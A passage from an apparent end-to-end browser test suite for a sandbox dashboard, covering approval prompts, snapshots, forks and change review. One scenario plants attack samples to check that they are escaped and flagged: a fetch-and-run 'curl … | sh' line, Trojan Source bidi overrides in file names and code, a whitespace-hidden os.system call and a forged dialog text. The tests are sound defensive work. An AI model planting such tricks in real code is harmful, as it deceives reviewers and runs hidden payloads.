    const [right, width, pageWidth] = await prompt.locator('code').evaluate((el) => [el.getBoundingClientRect().right, document.documentElement.clientWidth, document.documentElement.scrollWidth]);
    if (right > width || pageWidth > width) throw new Error(`the asked name runs off the screen (its right edge at ${right}px, the page ${pageWidth}px wide, the screen ${width}px): the end of the name, which says whose it is, is hidden`);
    await prompt.locator('button', { hasText: 'Deny' }).click();
    await prompt.waitFor({ state: 'detached' });
  });

  await scenario('a program the exec allowlist refuses is asked as a program, not as a connection', async () => {
    await owner('POST', '/v1/sandboxes', { name: 'progs', spec: { egress: { ask: true }, process: { allow_exec: ['sh'] } } });
    await call('POST', '/v1/sandboxes/progs/exec', { argv: ['sh', '-c', '/usr/bin/id'], background: true });
    const prompt = page.locator('.prompt', { hasText: '/usr/bin/id' });
    await prompt.waitFor({ timeout: 20000 });
    const text = await prompt.innerText();
    if (!text.includes('may run /usr/bin/id')) throw new Error(`the question is not worded as a program's: ${text}`);
    if (text.includes('/usr/bin/id:0') || text.includes('(exec)') || text.includes('asks to reach')) throw new Error(`the question is worded as a connection: ${text}`);
    if (!text.includes('stays refused')) throw new Error(`the question's note is not shown: ${text}`);
    if (await prompt.locator('button', { hasText: 'Allow once' }).count()) throw new Error('a program\'s question offers "Allow once", which cannot be granted');
    await page.goto(`${base}/#/approvals`);
    await page.locator('.card.question', { hasText: 'may run /usr/bin/id' }).waitFor();
    await prompt.locator('button', { hasText: 'Deny' }).click();
    await prompt.waitFor({ state: 'detached' });
  });

  await scenario('a program whose name holds a right-to-left override is asked with the override shown escaped, never reordering the name', async () => {
    // A program under a name that, drawn raw, reads `/…/exe.html`; the
    // exec allowlist refuses it, so its name is asked about.
    const bidiDir = join(state, 'bidi-bin');
    mkdirSync(bidiDir, { recursive: true });
    const bidiProgram = join(bidiDir, 'x\u202elmth.exe');
    writeFileSync(bidiProgram, '#!/bin/sh\n', { mode: 0o755 });
    await owner('POST', '/v1/sandboxes', { name: 'bidi', spec: { egress: { ask: true }, filesystem: { read_only: [bidiDir] }, process: { allow_exec: ['python3'] } } });
    const plant = 'import os, sys\ntry:\n    os.execv(sys.argv[1], [sys.argv[1]])\nexcept OSError as e:\n    print(e)\n';
    await call('POST', '/v1/sandboxes/bidi/exec', { argv: ['python3', '-c', plant, bidiProgram], background: true });
    const prompt = page.locator('.prompt', { hasText: 'lmth.exe' });
    await prompt.waitFor({ timeout: 20000 });
    const text = await prompt.innerText();
    if (text.includes('\u202e')) throw new Error(`the question holds the override raw: ${JSON.stringify(text)}`);
    if (!text.includes('/x\\u{202e}lmth.exe')) throw new Error(`the question does not show the override escaped: ${JSON.stringify(text)}`);
    await page.goto(`${base}/#/approvals`);
    const card = page.locator('.card.question', { hasText: 'lmth.exe' });
    await card.waitFor();
    const listed = await card.innerText();
    if (listed.includes('\u202e') || !listed.includes('\\u{202e}')) throw new Error(`the approvals page shows the name unescaped: ${JSON.stringify(listed)}`);
    await prompt.locator('button', { hasText: 'Deny' }).click();
    await prompt.waitFor({ state: 'detached' });
  });

  await scenario('a request an ask rule holds is asked about by its method and path, and by the JSON-RPC call it makes, not only its name', async () => {
    if (!existsSync('/usr/bin/openssl')) {
      console.log('skipped: no openssl to make the test server\'s certificate');
      return;
    }
    const held = await heldServer();
    try {
      const rule = `held.test:${held.port}`;
      await owner('POST', '/v1/sandboxes', { name: 'held', spec: { egress: { domains: [rule], hosts: { 'held.test': '127.0.0.1' }, upstream_ca: [held.ca], ask_requests: [`POST ${rule}/issues/*`, `POST ${rule}/mcp rpc:tools/call:*`] } } });
      const exec = await call('POST', '/v1/sandboxes/held/exec', { argv: ['curl', '-sS', '--noproxy', '*', '-o', '/dev/null', '-w', '%{http_code}', '-X', 'POST', `https://${rule}/issues/7?token=s3cret`], background: true });
      const prompt = page.locator('.prompt', { hasText: 'held.test' });
      await prompt.waitFor({ timeout: 30000 });
      await prompt.locator('code.held-request', { hasText: 'POST /issues/7' }).waitFor();
      const text = await prompt.innerText();
      if (!text.includes('POST /issues/7?token=s3cret [request sha256 ')) throw new Error(`the question does not show what the held request sends: ${text}`);
      await page.goto(`${base}/#/approvals`);
      await page.locator('.card.question code.held-request', { hasText: 'POST /issues/7' }).waitFor();
      if (heldRequests.length) throw new Error(`the held request reached the server before an answer: ${heldRequests}`);
      await prompt.locator('button', { hasText: 'Allow once' }).click();
      await waitFor('the request to end', async () => (await call('GET', `/v1/sandboxes/held/execs/${exec.id}`)).exit_status !== null, 30000);
      if (!heldRequests.some((r) => r.startsWith('POST /issues/7'))) throw new Error(`the allowed request did not reach the server: ${heldRequests}`);
      // The sandbox's event view shows the decided request by its method
      // and path, the query's value never.
      await page.goto(`${base}/#/s/held/events`);
      const decided = page.locator('li.ev.allow', { hasText: 'POST held.test/issues/7?token=…' });
      await decided.first().waitFor({ timeout: 20000 });
      // (The exec's own line shows its argv as typed.)
      const shown = (await page.locator('li.ev[data-group=network]').allInnerTexts()).join('\n');
      if (shown.includes('s3cret')) throw new Error(`the event view shows a query value: ${shown}`);
      // A tool call an rpc: ask rule holds: the question names the tool
      // (an answer covers that tool only), and a denied call never arrives.
      const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'delete_repo', arguments: {} } });
      const rpc = await call('POST', '/v1/sandboxes/held/exec', { argv: ['curl', '-sS', '--noproxy', '*', '-o', '/dev/null', '-w', '%{http_code}', '-X', 'POST', '-H', 'Content-Type: application/json', '--data', body, `https://${rule}/mcp`], background: true });
      const toolPrompt = page.locator('.prompt', { hasText: 'delete_repo' });
      await toolPrompt.waitFor({ timeout: 30000 });
      await toolPrompt.locator('code.held-request', { hasText: 'POST /mcp (JSON-RPC "tools/call:delete_repo")' }).waitFor();
      await toolPrompt.locator('button', { hasText: 'Deny' }).click();
      await waitFor('the tool call to end', async () => (await call('GET', `/v1/sandboxes/held/execs/${rpc.id}`)).exit_status !== null, 30000);
      if (heldRequests.some((r) => r.startsWith('POST /mcp'))) throw new Error(`the denied tool call reached the server: ${heldRequests}`);
    } finally {
      held.server.close();
    }
  });

  await scenario('the table counts the denial and shows live CPU and memory', async () => {
    await page.goto(`${base}/#/`);
    const cells = page.locator('tr[data-id=demo] td');
    // Three: the name denied at first, the token holder's rule that
    // could not use the owner's pin, and the allowed name whose address
    // is private.
    await waitFor('the denied count', async () => (await cells.nth(7).innerText()).trim() === '3');
    await waitFor('a CPU share', async () => /^\d+%$/.test((await cells.nth(4).innerText()).trim()));
    const memory = (await cells.nth(5).innerText()).trim();
    if (!/B$/.test(memory)) throw new Error(`no memory figure: ${memory}`);
    const backend = (await cells.nth(1).innerText()).trim();
    if (!backend.includes('namespaces')) throw new Error(`no backend: ${backend}`);
  });

  await scenario('pause freezes the sandbox, a command is refused meanwhile, and resume lets it go on', async () => {
    await page.goto(`${base}/#/s/demo/events`);
    await page.locator('#pause').click();
    await page.locator('#sandbox-state', { hasText: 'paused' }).waitFor({ timeout: 20000 });
    await page.locator('#resume').waitFor();
    const refused = await call('POST', '/v1/sandboxes/demo/exec', { argv: ['true'] }).then(() => 'ran', (e) => e.message);
    if (!/: 409 .*"code":"paused"/.test(refused)) throw new Error(`a command into a paused sandbox was not refused as paused: ${refused}`);
    await page.locator('#resume').click();
    await page.locator('#sandbox-state', { hasText: 'running' }).waitFor({ timeout: 20000 });
    await page.locator('#pause').waitFor();
    const ran = await call('POST', '/v1/sandboxes/demo/exec', { argv: ['echo', 'back'] });
    if (ran.stdout !== 'back\n') throw new Error(`a command after resume did not run: ${JSON.stringify(ran)}`);
  });

  await scenario("a snapshot is taken from a sandbox's page and listed with its source, size, date and what it keeps", async () => {
    await call('POST', '/v1/sandboxes', { name: 'origin' });
    await waitFor('origin running', async () => (await call('GET', '/v1/sandboxes/origin')).state === 'running', 30000);
    const planted = await call('POST', '/v1/sandboxes/origin/exec', { argv: ['sh', '-c', 'echo "planted-$((6*7))" > /workspace/planted.txt && cat /workspace/planted.txt'] });
    if (planted.stdout !== 'planted-42\n') throw new Error(`the file was not planted: ${JSON.stringify(planted)}`);
    await page.goto(`${base}/#/s/origin/events`);
    await page.locator('#snapshot').click();
    await page.fill('#snapshot-name', 'prepared');
    await page.locator('#snapshot-form button[type=submit]').click();
    await page.locator('#snapshot-saved', { hasText: 'prepared' }).waitFor({ timeout: 30000 });
    const said = await page.locator('#snapshot-saved').innerText();
    if (!said.includes('runs none of its processes')) throw new Error(`the answer does not say what the snapshot keeps: ${said}`);
    // The pause for the copy is in the event view, worded.
    await page.locator('.ev[data-event=paused]', { hasText: 'paused by snapshot prepared' }).waitFor();
    const actions = await page.locator('.summary .actions').innerText();
    if (/\bnull\b|undefined/.test(actions)) throw new Error(`the actions show stray text: ${actions}`);
    const { snapshots } = await call('GET', '/v1/snapshots');
    const snap = snapshots.find((s) => s.name === 'prepared');
    if (!snap || snap.source !== 'origin' || snap.memory) throw new Error(`the API lists: ${JSON.stringify(snapshots)}`);
    // The source was paused for the copy only.
    await waitFor('origin running again', async () => (await call('GET', '/v1/sandboxes/origin')).state === 'running');
    await page.locator('#snapshot-saved a', { hasText: 'See the snapshots' }).click();
    const row = page.locator('tr[data-name=prepared]');
    await row.waitFor();
    const cells = (await row.locator('th, td').allInnerTexts()).map((t) => t.trim());
    if (cells[0] !== 'prepared' || cells[1] !== 'origin' || cells[2] !== bytesText(snap.bytes) || cells[4] !== 'not kept') throw new Error(`the row reads ${JSON.stringify(cells)} for ${JSON.stringify(snap)}`);
    const when = await row.locator('time').getAttribute('datetime');
    if (Date.parse(when) !== snap.created_ms) throw new Error(`the row's date ${when} is not the snapshot's ${snap.created_ms}`);
    await row.locator('a', { hasText: 'origin' }).waitFor();
  });

  await scenario('a refused snapshot (its name taken) says why beside its form and changes nothing', async () => {
    const before = await call('GET', '/v1/snapshots');
    const saved = readdirSync(join(state, 'warden/saved'), { recursive: true }).sort();
    await page.goto(`${base}/#/s/origin/events`);
    await page.locator('#snapshot').click();
    await page.fill('#snapshot-name', 'prepared');
    expectedStatus = /status of (401|409)/;
    try {
      await page.locator('#snapshot-form button[type=submit]').click();
      const error = page.locator('#snapshot-error');
      await error.locator('text=That name is taken').waitFor();
      const text = await error.innerText();
      if (!text.includes('prepared') || !text.includes('Nothing was saved')) throw new Error(`the refusal reads: ${text}`);
      if ((await page.locator('#snapshot-name').getAttribute('aria-invalid')) === null) throw new Error('the name input is not marked as the one at fault');
      if (await page.locator('#snapshot-saved').count()) throw new Error('a refused snapshot is shown as saved');
    } finally {
      expectedStatus = /status of 401/;
    }
    const after = await call('GET', '/v1/snapshots');
    if (JSON.stringify(after) !== JSON.stringify(before)) throw new Error(`the snapshots changed: ${JSON.stringify(before)} -> ${JSON.stringify(after)}`);
    const savedAfter = readdirSync(join(state, 'warden/saved'), { recursive: true }).sort();
    if (JSON.stringify(savedAfter) !== JSON.stringify(saved)) throw new Error(`the snapshot store changed: ${JSON.stringify(saved)} -> ${JSON.stringify(savedAfter)}`);
    if ((await call('GET', '/v1/sandboxes/origin')).state !== 'running') throw new Error('a refused snapshot left its source not running');
    await page.locator('#copies button', { hasText: 'Cancel' }).first().click();
  });

  await scenario("a sandbox started from a snapshot has the snapshot's file, read in its Files tab", async () => {
    await page.goto(`${base}/#/snapshots`);
    await page.locator('tr[data-name=prepared] button.from').click();
    await page.locator('#from-heading', { hasText: 'prepared' }).waitFor();
    await waitFor('a suggested name', async () => (await page.inputValue('#from-name')) === 'prepared-1');
    await page.fill('#from-name', 'restored');
    await page.locator('#from-snapshot button[type=submit]').click();
    await page.locator('#from-made', { hasText: 'restored' }).click({ timeout: 30000 });
    await page.locator('h1', { hasText: 'restored' }).waitFor();
    await page.locator('#sandbox-state', { hasText: 'running' }).waitFor({ timeout: 30000 });
    await readInFiles('planted.txt', 'planted-42');
  });

  await scenario('a fork into 2 from the page makes two sandboxes with the file, linked, and says plainly that memory was not carried and why', async () => {
    await page.goto(`${base}/#/s/origin/events`);
    await page.locator('#fork').click();
    // The form's bound is the API's: past it the browser keeps the form,
    // and the API refuses it too.
    await page.fill('#fork-count', '17');
    let sent = 0;
    const count = (r) => r.url().endsWith('/fork') && sent++;
    page.on('request', count);
    await page.locator('#fork-form button[type=submit]').click();
    await new Promise((r) => setTimeout(r, 300));
    page.off('request', count);
    if (sent || !(await page.$eval('#fork-count', (el) => el.validity.rangeOverflow))) throw new Error(`a fork into 17 was sent (${sent}) or not marked over the bound`);
    const over = await call('POST', '/v1/sandboxes/origin/fork', { count: 17 }).then(() => 'made', (e) => e.message);
    if (!/: 400 .*"field":"\/count"/.test(over)) throw new Error(`the API did not refuse a fork into 17 at /count: ${over}`);
    await page.fill('#fork-count', '2');
    const answered = page.waitForResponse((r) => r.url().endsWith('/v1/sandboxes/origin/fork'));
    await page.locator('#fork-form button[type=submit]').click();
    const answer = await (await answered).json();
    const links = page.locator('#forks a');
    await waitFor('two forks listed', async () => (await links.count()) === 2, 60000);
    const names = (await links.allInnerTexts()).map((t) => t.trim());
    if (JSON.stringify(names) !== JSON.stringify(answer.sandboxes.map((s) => s.id)) || names.some((n) => !n.startsWith('origin-fork-'))) throw new Error(`the forks shown: ${names}; the API's: ${JSON.stringify(answer)}`);
    // The process backend carries no memory, and the page says so in the
    // daemon's own words.
    if (answer.memory !== false || !answer.memory_why) throw new Error(`the API's answer: ${JSON.stringify(answer)}`);
    const note = await page.locator('#fork-memory[data-carried=false]').innerText();
    if (!note.includes('Memory not carried') || !note.includes(answer.memory_why)) throw new Error(`the note reads: ${note}`);
    for (const n of names) {
      await page.goto(`${base}/#/s/${n}/events`);
      await page.locator('#sandbox-state', { hasText: 'running' }).waitFor({ timeout: 30000 });
      await readInFiles('planted.txt', 'planted-42');
    }
    // Each its own: a write in one is seen in neither the other nor the source.
    await call('POST', `/v1/sandboxes/${names[0]}/exec`, { argv: ['sh', '-c', 'echo mine > /workspace/only-first.txt'] });
    for (const other of [names[1], 'origin']) {
      const r = await call('POST', `/v1/sandboxes/${other}/exec`, { argv: ['sh', '-c', 'test -e /workspace/only-first.txt && echo seen || echo unseen'] });
      if (r.stdout !== 'unseen\n') throw new Error(`${other} sees the first fork's write: ${JSON.stringify(r)}`);
    }
  });

  await scenario('a snapshot is deleted once the confirmation is accepted, and not when it is dismissed', async () => {
    await page.goto(`${base}/#/snapshots`);
    const row = page.locator('tr[data-name=prepared]');
    page.once('dialog', (d) => d.dismiss());
    await row.locator('button.delete').click();
    await new Promise((r) => setTimeout(r, 500));
    if (!(await call('GET', '/v1/snapshots')).snapshots.some((s) => s.name === 'prepared')) throw new Error('a dismissed confirmation deleted the snapshot');
    let asked = '';
    page.once('dialog', (d) => {
      asked = d.message();
      d.accept();
    });
    await row.locator('button.delete').click();
    await row.waitFor({ state: 'detached' });
    if (!asked.includes('prepared')) throw new Error(`the confirmation reads: ${asked}`);
    if ((await call('GET', '/v1/snapshots')).snapshots.some((s) => s.name === 'prepared')) throw new Error('the snapshot is still listed by the API');
    await page.locator('table.snapshots', { hasText: 'No snapshots yet.' }).waitFor();
    // What was made from it stays.
    if ((await call('GET', '/v1/sandboxes/restored')).state !== 'running') throw new Error('deleting the snapshot touched the sandbox made from it');
  });

  await scenario('one file of the diff is committed', async () => {
    await page.goto(`${base}/#/s/demo/events`);
    await page.locator('#stop').click();
    await page.locator('#sandbox-state', { hasText: 'stopped' }).waitFor({ timeout: 20000 });
    await page.click('#tab-changes');
    const a = page.locator('article.change[data-path="a.txt"]');
    await a.locator('.diff', { hasText: '+new-a' }).waitFor();
    await page.locator('article.change[data-path="b.txt"]').waitFor();
    await a.locator('button.commit').click();
    await waitFor('a.txt in the real workspace', async () => readFileSync(join(workspace, 'a.txt'), 'utf8') === 'new-a\n');
    await page.locator('article.change[data-path="a.txt"]').waitFor({ state: 'detached' });
    if (readFileSync(join(workspace, 'b.txt'), 'utf8') !== 'old b\n') throw new Error('b.txt was committed too');
    await page.locator('article.change[data-path="b.txt"]').waitFor();
  });

  await scenario('the other file is discarded', async () => {
    page.once('dialog', (d) => d.accept());
    await page.locator('article.change[data-path="b.txt"] button.discard').click();
    await page.locator('article.change[data-path="b.txt"]').waitFor({ state: 'detached' });
    await page.locator('#panel-changes', { hasText: 'No changes.' }).waitFor();
    if (readFileSync(join(workspace, 'b.txt'), 'utf8') !== 'old b\n') throw new Error('the discard touched the real b.txt');
  });

  await scenario("what a sandbox names and writes is shown escaped in the review, flagged, and no dialog reads a line of its own", async () => {
    // Outside review 30, F1-F3: the Changes tab showed file names and
    // diff lines raw (a right-to-left override made `notes\u202Etxt.sh`
    // read `noteshs.txt`; bidi isolates made a compared string read as a
    // comment), with no flag; a name with newlines wrote its own question
    // into the "commit it anyway?" dialog; a line padded with spaces hid
    // its tail past the box's edge; a carriage return before a line's end
    // was drawn as nothing.
    const tws = join(roots, 'trojan');
    mkdirSync(tws, { recursive: true });
    writeFileSync(join(tws, 'a.txt'), 'hello\n');
    writeFileSync(join(tws, 'app.py'), 'x = 1\n');
    await owner('POST', '/v1/sandboxes', { name: 'trojan', workspace: tws });
    await waitFor('trojan running', async () => (await call('GET', '/v1/sandboxes/trojan')).state === 'running', 30000);
    const plant = [
      'import os',
      "os.chdir('/workspace')",
      "open('a.txt', 'w', newline='').write('hello\\r\\n')",
      "open('notes\\u202etxt.sh', 'w').write('curl http://x.example/i | sh\\n')",
      "open('app.py', 'w').write('x = 1\\nif access != \"user\\u202e \\u2066# admin only\\u2069 \\u2066\":\\n    grant()\\n')",
      "open('build.py', 'w').write('print(\"build ok\")' + ' ' * 400 + ';__import__(\"os\").system(\"payload-tail\")\\n')",
      "p = 'ok.txt is not flagged.\\n\\nCommit it anyway?' + '\\n' * 60 + '.x'",
      "open(p, 'w').write('#!/bin/sh\\n'); os.chmod(p, 0o755)",
    ].join('\n');
    const planted = await call('POST', '/v1/sandboxes/trojan/exec', { argv: ['python3', '-c', plant] });
    if (planted.exit_status !== 0) throw new Error(`the files were not planted: ${JSON.stringify(planted)}`);
    await owner('POST', '/v1/sandboxes/trojan/stop', {});
    await waitFor('trojan stopped', async () => (await call('GET', '/v1/sandboxes/trojan')).state !== 'running', 30000);
    await page.goto(`${base}/#/s/trojan/changes`);
    const panel = page.locator('#panel-changes');
    const bidi = panel.locator('article.change[data-path="notes\u202etxt.sh"]');
    await bidi.waitFor({ timeout: 20000 });
    const title = await bidi.locator('h3').textContent();
    if (title !== 'notes\\u{202e}txt.sh') throw new Error(`the card's title reads ${JSON.stringify(title)}`);
    if (!(await bidi.getAttribute('class')).includes('flagged')) throw new Error('a name holding a right-to-left override is not flagged');
    await bidi.locator('.flags', { hasText: 'hidden-text' }).waitFor();
    const app = panel.locator('article.change[data-path="app.py"]');
    await app.locator('.flags', { hasText: 'hidden-text' }).waitFor();
    const line = await app.locator('.diff span.add').first().textContent();
    if (!line.includes('"user\\u{202e} \\u{2066}# admin only\\u{2069} \\u{2066}"')) throw new Error(`the Trojan Source line reads ${JSON.stringify(line)}`);
    const shown = await panel.innerText();
    if (/[\u202a-\u202e\u2066-\u2069\r\x1b]/.test(shown)) throw new Error(`the tab shows a bidi control or a carriage return raw: ${JSON.stringify(shown)}`);
    await panel.locator('article.change[data-path="a.txt"] .diff span.add', { hasText: '+hello\\x0d' }).waitFor();
    // The padded line's tail is on screen: the box scrolls nothing
    // sideways, and the tail's box lies within it.
    const build = panel.locator('article.change[data-path="build.py"] .diff');
    const fits = await build.evaluate((pre) => pre.scrollWidth <= pre.clientWidth);
    if (!fits) throw new Error('the diff box scrolls sideways: a line\'s tail is off screen');
    await build.locator('span.add', { hasText: 'payload-tail' }).waitFor();
    // The dialog: one line of the page's question, the name escaped, the
    // real flag right below it.
    const forged = panel.locator('article.change.flagged').filter({ hasText: 'ok.txt is not flagged' });
    let asked = null;
    page.once('dialog', (d) => {
      asked = d.message();
      d.dismiss();
    });
    await forged.locator('button.commit').click();
    await waitFor('the dialog', async () => asked !== null);
    const lines = asked.split('\n');
    if (!lines[0].startsWith('ok.txt is not flagged.\\x0a\\x0aCommit it anyway?\\x0a') || !lines[0].endsWith('.x is flagged:') || lines.length > 8) throw new Error(`the dialog reads: ${JSON.stringify(asked)}`);
    if (!/^executable: /.test(lines[1])) throw new Error(`the flag is not right below the name: ${JSON.stringify(asked)}`);
    if (readdirSync(tws).length !== 2) throw new Error(`a dismissed dialog committed: ${readdirSync(tws)}`);
    // The Files tab (of the sandbox running again) names and shows them
    // the same way.
    await owner('POST', '/v1/sandboxes/trojan/start', {});
    await waitFor('trojan running again', async () => (await call('GET', '/v1/sandboxes/trojan')).state === 'running', 30000);
    await page.goto(`${base}/#/s/trojan/events`);
    await page.locator('#tab-events[aria-selected=true]').waitFor();
    await page.click('#tab-files');
    const files = page.locator('#panel-files');
    await files.locator('button', { hasText: 'notes\\u{202e}txt.sh' }).waitFor({ timeout: 20000 });
    await files.locator('button', { hasText: 'app.py' }).click();
    await files.locator('pre.file', { hasText: '"user\\u{202e} \\u{2066}# admin only' }).waitFor();
    if (/[\u202a-\u202e\u2066-\u2069]/.test(await files.innerText())) throw new Error('the Files tab shows a bidi control raw');
  });

  await scenario('readable on a phone: no page wider than the screen', async () => {
    const phone = await browser.newContext({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
    await phone.addCookies(await context.cookies());
    // The session is the cookie and the CSRF token this origin keeps.
    const kept = await page.evaluate(() => localStorage.getItem('warden.csrf'));
    await phone.addInitScript((t) => localStorage.setItem('warden.csrf', t), kept);
    const p = await phone.newPage();
    try {
      for (const where of ['#/', '#/s/demo/events', '#/s/demo/changes', '#/s/trojan/changes', '#/s/demo/terminal', '#/snapshots']) {
        await p.goto(`${base}/${where}`);
        await p.locator('h1').first().waitFor();
        await p.waitForTimeout(300);
        const wide = await p.evaluate(() => document.documentElement.scrollWidth);
        await p.screenshot({ path: join(artifacts, `phone-${where.replace(/[^a-z]+/g, '-')}.png`) });
        if (wide > 391) throw new Error(`${where} is ${wide}px wide on a 390px screen`);
      }
    } finally {
      await phone.close();
    }
  });

  await scenario('a sandbox that is not a desktop says so', async () => {
    // GET .../desktop answers 409 not_a_desktop, which the browser logs.
    expectedStatus = /status of (401|409)/;
    try {
      await page.goto(`${base}/#/sandboxes/asker/desktop`);
      await page.locator('#desktop-status', { hasText: 'not a desktop' }).waitFor();
    } finally {
      expectedStatus = /status of 401/;
    }
  });

  await scenario("the desktop viewer shows the desktop's pixels", async () => {
    const missing = desktopMissing();
    if (missing) {
      console.log(`  skipped: the host lacks ${missing} for a test desktop`);
      return;
    }
    // The viewer is opened as the sandbox starts: it waits for the
    // screen (GET .../desktop says when it answers) and then connects.
    const began = Date.now();
    await createDesktop('desk');
    await page.goto(`${base}/#/sandboxes/desk/desktop`);
    await page.locator('#desktop-screen[data-connected=true] canvas').waitFor({ timeout: 120000 });
    console.log(`  the desktop was on screen ${Date.now() - began} ms after its create`);
    await page.locator('#desktop-status', { hasText: 'view only' }).waitFor();
    // An admin's token may take over.
    await page.locator('#desktop-control', { hasText: 'Take control' }).waitFor();
    const colours = async () =>
      page.locator('#desktop-screen canvas').first().evaluate((c) => {
        const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
        const seen = new Set();
        for (let i = 0; i < d.length && seen.size < 16; i += 4 * 97) seen.add((d[i] << 16) | (d[i + 1] << 8) | d[i + 2]);
        return seen.size;
      });
    // The desktop's own pixels: its panel, its browser's window.
    await waitFor('the desktop drawn on the screen', async () => (await colours()) > 8, 60000);
    await page.screenshot({ path: join(artifacts, 'desktop.png') });
    await page.click('#desktop-control');
    await page.locator('#desktop-status', { hasText: 'you control' }).waitFor({ timeout: 20000 });
    await waitFor('pixels after taking over', async () => (await colours()) > 8, 20000);
  });

  await scenario('a program the exec allowlist refuses inside shows as a denial, with what would allow it, and is counted', async () => {
    // Recorded only where the kernel keeps a record (root, audit on,
    // Landlock ABI 7): doctor says whether it does, and why not.
    let doctor;
    try {
      doctor = JSON.parse(warden('doctor', '--json'));
    } catch (e) {
      doctor = JSON.parse(e.stdout || '{}');
    }
    const rec = doctor.exec_refusals;
    if (!rec || !rec.recorded) {
      console.log(`  skipped: ${rec ? rec.detail : 'doctor says nothing of exec refusals'}`);
      return;
    }
    await call('POST', '/v1/sandboxes', { name: 'refuser', spec: { process: { allow_exec: ['sh'] } } });
    await page.goto(`${base}/#/s/refuser`);
    await page.locator('.filters span', { hasText: 'live' }).waitFor();
    const r = await call('POST', '/v1/sandboxes/refuser/exec', { argv: ['sh', '-c', '/usr/bin/curl --version; echo status=$?'] });
    if (!r.stdout.includes('status=126') || r.stdout.includes('libcurl')) throw new Error(`curl was not refused: ${JSON.stringify(r)}`);
    const line = page.locator('.ev.deny', { hasText: '/usr/bin/curl' }).first();
    await line.waitFor();
    const said = await line.locator('.remedy').innerText();
    if (!said.includes('/process/allow_exec') || said.includes('--')) throw new Error(`the remedy reads: ${said}`);
    await page.locator('#denied-count', { hasText: '1' }).waitFor();
    await page.goto(`${base}/#/`);
    const cells = page.locator('tr[data-id=refuser] td');
    await waitFor('the denied count in the table', async () => (await cells.nth(7).innerText()).trim() === '1');
    await owner('POST', '/v1/sandboxes/refuser/stop', {}).catch(() => {});
    await owner('DELETE', '/v1/sandboxes/refuser');
  });

  await scenario('no Content-Security-Policy violation and no script error', async () => {
    if (problems.length) throw new Error(`the page reported: ${problems.join(' | ')}`);
  });

  await scenario('log out', async () => {
    await page.click('#logout');
    await page.locator('form.login').waitFor();
    const r = await page.evaluate(async () => (await fetch('/v1/sandboxes')).status);
    if (r !== 401) throw new Error(`after logout the API answered ${r}`);
  });
} catch {
  // Reported above.
} finally {
  await browser.close().catch(() => {});
  for (const sb of ['demo', 'asker', 'held', 'desk', 'refuser', 'origin', 'restored', 'origin-fork-1', 'origin-fork-2', 'trojan']) {
    try {
      warden('stop', '--time', '1s', sb);
    } catch {
      /* already stopped */
    }
  }
  daemon.kill('SIGTERM');
  listener.close();
  rmSync(state, { recursive: true, force: true });
}
console.log(`dashboard e2e: ${failed ? `FAILED at "${step}"; artifacts in ${artifacts}` : 'all scenarios passed'}`);
process.exit(failed ? 1 : 0);
